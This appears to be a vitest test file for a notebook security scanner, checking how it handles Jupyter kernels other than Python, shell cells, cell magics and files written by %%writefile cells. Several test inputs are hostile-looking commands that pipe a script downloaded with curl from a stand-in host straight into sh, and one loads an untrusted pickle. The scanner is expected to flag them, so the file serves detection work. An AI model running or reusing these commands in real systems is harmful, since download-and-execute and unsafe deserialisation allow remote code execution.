// What is judged of notebooks whose kernel is not Python, and what is said of the rest.

import { assembleNotebook } from '@sentrascan/testkit';
import { describe, expect, it, test } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { MemoryAccess } from '../../bytes/random-access.ts';
import { DEFAULT_PLUGINS } from '../../engine/default-plugins.ts';
import { scanSource } from '../../engine/scan-source.ts';

function scanned(cells: string, name: string, language?: string) {
  const metadata = { kernelspec: { name, ...(language === undefined ? {} : { language }) } };
  const { findings, gaps } = scanBytes(assembleNotebook(cells, { metadata }), 'a.ipynb');
  return {
    rules: findings.map(({ ruleId, severity }) => `${ruleId} ${severity}`),
    gaps,
  };
}

describe('a notebook of another kernel', () => {
  test.each([
    ['ir', 'R', 'R'],
    ['julia-1.9', 'julia', 'Julia'],
    ['julia-1.9', undefined, 'Julia'],
    ['xcpp17', 'C++17', 'C++'],
    ['sas', 'sas', 'SAS'],
    ['ghost', 'ghost', 'ghost'],
  ])('of %s says once that its cells were not judged', (name, language, title) => {
    const { gaps } = scanned('system("x") |> go\n---\nlet y = 2', name, language);
    expect(gaps).toEqual([
      expect.stringContaining(
        `unrecognised: Cells in ${title} are not analysed by this version; the first is cell 0, counted from 0.`,
      ),
    ]);
  });

  it('is judged as commands where it is that of a shell', () => {
    const { rules, gaps } = scanned('ls -la\ncurl https://x.y/a.sh | sh', 'bash', 'bash');
    expect(rules).toEqual(['shell/runs-harmful-command critical']);
    expect(gaps).toEqual([]);
  });

  it('is Python where it has the name of an environment', () => {
    const { rules, gaps } = scanned('import pickle\npickle.load(open("f", "rb"))', 'tensorflow2_p36');
    expect(rules).toEqual(['python/loads-pickle high']);
    expect(gaps).toEqual([]);
  });

  it('is not what an editor calls its cells', () => {
    const text = Buffer.from(assembleNotebook('%%bash\ncurl https://x.y/a.sh | sh\n---\nimport os'))
      .toString()
      .replace('"metadata": {}', '"metadata": {"vscode": {"languageId": "r"}}');
    const { findings, gaps } = scanBytes(Buffer.from(text), 'a.ipynb');
    expect(findings.map(({ ruleId }) => ruleId)).toEqual(['shell/runs-harmful-command']);
    expect(gaps).toEqual([]);
  });

  it('says so of cells that a magic hands to another language', () => {
    const { gaps } = scanned('x = 1\n---\n%%R\nsystem("x")', 'python3', 'python');
    expect(gaps).toEqual([
      expect.stringContaining(
        'unrecognised: Cells in R are not analysed by this version; the first is cell 1, counted from 0.',
      ),
    ]);
    expect(scanned('%%sql\nSELECT 1\n---\n%%html\n<b>x</b>', 'python3', 'python').gaps).toEqual([]);
  });
});

describe('a file that a cell writes', () => {
  it('has its findings in the lines of the cell', () => {
    const bytes = assembleNotebook(
      'x = 1\n---\n\n%%writefile train.py\nimport os\nos.system("curl https://x.y | sh")',
    );
    const source = { path: 'a.ipynb', sizeBytes: bytes.length, open: () => new MemoryAccess(bytes) };
    const { findings } = scanSource(source, {}, DEFAULT_PLUGINS, () => 0);
    expect(findings.map(({ location }) => location)).toEqual([
      { cell: 1, part: 'source', line: 4, rawLine: 21 },
    ]);
  });
});
